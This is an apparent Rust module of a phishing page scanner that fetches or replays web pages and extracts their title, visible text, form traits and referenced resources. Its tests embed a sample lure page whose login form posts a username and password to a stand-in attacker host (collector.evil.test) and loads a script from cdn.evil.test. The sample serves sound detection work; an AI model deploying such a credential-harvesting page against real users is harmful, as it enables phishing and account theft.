use std::future::Future;
use std::path::Path;
use std::sync::LazyLock;
use std::time::Duration;

use scraper::{ElementRef, Html, Node, Selector};
use serde::Deserialize;
use url::Url;

use crate::core::error::ScanError;
use crate::core::types::{
    FormSummary, NetworkRequestRecord, PageObservation, RenderOutcome, RenderedPage,
};
use crate::core::url::ParsedUrl;

/// Rendering collaborator. The engine drops the returned future when the
/// render budget runs out, so anything it holds (processes, sockets) must be
/// released on drop.
pub trait PageRenderer {
    fn render(&self, url: &ParsedUrl) -> impl Future<Output = RenderOutcome> + Send;
}

/// Replays a captured page from disk.
#[derive(Debug, Clone, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct FixtureRenderer {
    #[serde(default)]
    pub page: RenderedPage,
    /// Navigation error recorded with the capture, if any.
    #[serde(default)]
    pub error: Option<String>,
}

impl FixtureRenderer {
    pub fn new(page: RenderedPage, error: Option<String>) -> Self {
        Self { page, error }
    }

    pub fn from_path(path: &Path) -> Result<Self, ScanError> {
        let data = std::fs::read_to_string(path)?;
        let fixture: FixtureRenderer = serde_json::from_str(&data)?;
        Ok(fixture)
    }
}

impl PageRenderer for FixtureRenderer {
    async fn render(&self, _url: &ParsedUrl) -> RenderOutcome {
        match &self.error {
            None => RenderOutcome::Succeeded(self.page.clone()),
            Some(reason) => RenderOutcome::Failed {
                reason: reason.clone(),
                partial: Some(self.page.clone()),
            },
        }
    }
}

static TITLE_SELECTOR: LazyLock<Selector> =
    LazyLock::new(|| Selector::parse("title").expect("title selector - this is a bug"));
static BODY_SELECTOR: LazyLock<Selector> =
    LazyLock::new(|| Selector::parse("body").expect("body selector - this is a bug"));
static FORM_SELECTOR: LazyLock<Selector> =
    LazyLock::new(|| Selector::parse("form").expect("form selector - this is a bug"));
static INPUT_SELECTOR: LazyLock<Selector> =
    LazyLock::new(|| Selector::parse("input").expect("input selector - this is a bug"));
static INLINE_SCRIPT_SELECTOR: LazyLock<Selector> = LazyLock::new(|| {
    Selector::parse("script:not([src])").expect("inline script selector - this is a bug")
});

/// Sub-resource references and the resource type they load as.
static RESOURCE_SELECTORS: LazyLock<Vec<(Selector, &'static str, &'static str)>> =
    LazyLock::new(|| {
        [
            ("script[src]", "src", "script"),
            ("link[rel~=stylesheet][href]", "href", "stylesheet"),
            ("img[src]", "src", "image"),
            ("iframe[src]", "src", "document"),
            ("source[src]", "src", "media"),
        ]
        .into_iter()
        .map(|(css, attr, kind)| {
            let selector = Selector::parse(css).expect("resource selector - this is a bug");
            (selector, attr, kind)
        })
        .collect()
    });

/// Fetches the page over plain HTTP and inspects the static HTML.
/// Scripts are not executed, so requests are those referenced by the markup.
pub struct StaticHtmlRenderer {
    client: reqwest::Client,
}

impl StaticHtmlRenderer {
    pub fn new(user_agent: &str, timeout: Duration) -> Result<Self, ScanError> {
        let client = reqwest::Client::builder()
            .user_agent(user_agent)
            .timeout(timeout)
            .redirect(reqwest::redirect::Policy::limited(5))
            .build()
            .map_err(ScanError::from)?;
        Ok(Self { client })
    }
}

impl PageRenderer for StaticHtmlRenderer {
    async fn render(&self, url: &ParsedUrl) -> RenderOutcome {
        let response = match self.client.get(url.url().clone()).send().await {
            Ok(resp) => resp,
            Err(err) => {
                return RenderOutcome::Failed {
                    reason: describe_fetch_error(&err),
                    partial: None,
                }
            }
        };

        let final_url = response.url().clone();
        let status = response.status();
        if !status.is_success() {
            tracing::debug!("{} answered {}", final_url, status);
        }

        match response.text().await {
            Ok(body) => RenderOutcome::Succeeded(extract_page(&body, &final_url)),
            Err(err) => RenderOutcome::Failed {
                reason: describe_fetch_error(&err),
                partial: Some(RenderedPage {
                    final_url: Some(final_url.to_string()),
                    ..RenderedPage::default()
                }),
            },
        }
    }
}

fn describe_fetch_error(err: &reqwest::Error) -> String {
    if err.is_timeout() {
        format!("navigation timeout: {err}")
    } else if err.is_connect() {
        format!("net::ERR_CONNECTION_FAILED: {err}")
    } else {
        format!("net::ERR_FAILED: {err}")
    }
}

/// Builds the page observation from raw HTML served at `base`.
pub fn extract_page(html: &str, base: &Url) -> RenderedPage {
    let document = Html::parse_document(html);
    let page_host = base.host_str().unwrap_or_default().to_lowercase();

    let title = document
        .select(&TITLE_SELECTOR)
        .next()
        .map(|el| el.text().collect::<String>().trim().to_string())
        .filter(|t| !t.is_empty());

    let text = document
        .select(&BODY_SELECTOR)
        .next()
        .map(visible_text)
        .unwrap_or_default();

    let script_text = document
        .select(&INLINE_SCRIPT_SELECTOR)
        .map(|el| el.text().collect::<String>())
        .collect::<Vec<_>>()
        .join("\n");

    RenderedPage {
        title,
        final_url: Some(base.to_string()),
        observation: Some(PageObservation {
            text,
            forms: form_summary(&document, base, &page_host),
            script_text,
        }),
        observation_error: None,
        requests: referenced_requests(&document, base, &page_host),
        screenshot: None,
    }
}

fn visible_text(body: ElementRef<'_>) -> String {
    let mut parts = Vec::new();
    for node in body.descendants() {
        let Node::Text(text) = node.value() else {
            continue;
        };
        let hidden = node
            .parent()
            .and_then(|p| p.value().as_element().map(|e| e.name().to_string()))
            .map(|name| matches!(name.as_str(), "script" | "style" | "noscript" | "template"))
            .unwrap_or(false);
        let trimmed = text.trim();
        if !hidden && !trimmed.is_empty() {
            parts.push(trimmed.to_string());
        }
    }
    parts.join(" ")
}

fn input_type_is(input: &ElementRef<'_>, kind: &str) -> bool {
    input
        .value()
        .attr("type")
        .map(|t| t.trim().eq_ignore_ascii_case(kind))
        .unwrap_or(false)
}

fn form_summary(document: &Html, base: &Url, page_host: &str) -> FormSummary {
    let inputs: Vec<ElementRef<'_>> = document.select(&INPUT_SELECTOR).collect();
    let has_external_action = document.select(&FORM_SELECTOR).any(|form| {
        form.value()
            .attr("action")
            .map(str::trim)
            .filter(|a| !a.is_empty())
            .and_then(|action| base.join(action).ok())
            .and_then(|target| target.host_str().map(|h| h.to_lowercase()))
            .map(|host| host != page_host)
            .unwrap_or(false)
    });

    FormSummary {
        form_count: document.select(&FORM_SELECTOR).count(),
        has_password_field: inputs.iter().any(|i| input_type_is(i, "password")),
        hidden_field_count: inputs.iter().filter(|i| input_type_is(i, "hidden")).count(),
        has_external_action,
    }
}

fn referenced_requests(document: &Html, base: &Url, page_host: &str) -> Vec<NetworkRequestRecord> {
    let mut out = Vec::new();
    for (selector, attr, kind) in RESOURCE_SELECTORS.iter() {
        for el in document.select(selector) {
            let Some(target) = el.value().attr(attr).and_then(|v| base.join(v.trim()).ok()) else {
                continue;
            };
            if !matches!(target.scheme(), "http" | "https") {
                continue;
            }
            out.push(NetworkRequestRecord {
                url: target.to_string(),
                resource_type: kind.to_string(),
                originating_domain: page_host.to_string(),
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const LURE: &str = r#"<!doctype html>
<html><head><title> Verify your account </title>
<script src="https://cdn.evil.test/kit.js"></script>
<link rel="stylesheet" href="/css/site.css">
</head>
<body>
  <h1>Security alert</h1>
  <p>Your account has been suspended. Login to verify.</p>
  <form action="https://collector.evil.test/post" method="post">
    <input type="text" name="user">
    <input type="PASSWORD" name="pass">
    <input type="hidden" name="a"><input type="hidden" name="b">
  </form>
  <img src="logo.png">
  <script>var p = atob("aGk="); document.write(p);</script>
  <style>.x { color: red }</style>
</body></html>"#;

    #[test]
    fn extracts_observation_from_static_html() {
        let base = Url::parse("https://login.example.com/account/").unwrap();
        let page = extract_page(LURE, &base);
        assert_eq!(page.title.as_deref(), Some("Verify your account"));
        let obs = page.observation.unwrap();
        assert!(obs.text.contains("Security alert"));
        assert!(!obs.text.contains("atob"));
        assert!(!obs.text.contains("color: red"));
        assert_eq!(obs.forms.form_count, 1);
        assert!(obs.forms.has_password_field);
        assert_eq!(obs.forms.hidden_field_count, 2);
        assert!(obs.forms.has_external_action);
        assert!(obs.script_text.contains("document.write"));
    }

    #[test]
    fn resolves_referenced_requests() {
        let base = Url::parse("https://login.example.com/account/").unwrap();
        let page = extract_page(LURE, &base);
        let urls: Vec<(&str, &str)> = page
            .requests
            .iter()
            .map(|r| (r.url.as_str(), r.resource_type.as_str()))
            .collect();
        assert!(urls.contains(&("https://cdn.evil.test/kit.js", "script")));
        assert!(urls.contains(&("https://login.example.com/css/site.css", "stylesheet")));
        assert!(urls.contains(&("https://login.example.com/account/logo.png", "image")));
        assert!(page
            .requests
            .iter()
            .all(|r| r.originating_domain == "login.example.com"));
    }

    #[test]
    fn relative_form_action_is_not_external() {
        let base = Url::parse("https://example.com/").unwrap();
        let page = extract_page(r#"<form action="/login"><input type="password"></form>"#, &base);
        let forms = page.observation.unwrap().forms;
        assert!(!forms.has_external_action);
        assert!(forms.has_password_field);
    }

    #[tokio::test]
    async fn fixture_with_error_is_failed_with_partial() {
        let url = crate::core::url::parse_url("https://example.com/").unwrap();
        let renderer = FixtureRenderer::new(RenderedPage::default(), Some("timeout".into()));
        match renderer.render(&url).await {
            RenderOutcome::Failed { reason, partial } => {
                assert_eq!(reason, "timeout");
                assert!(partial.is_some());
            }
            other => panic!("unexpected {other:?}"),
        }
    }
}
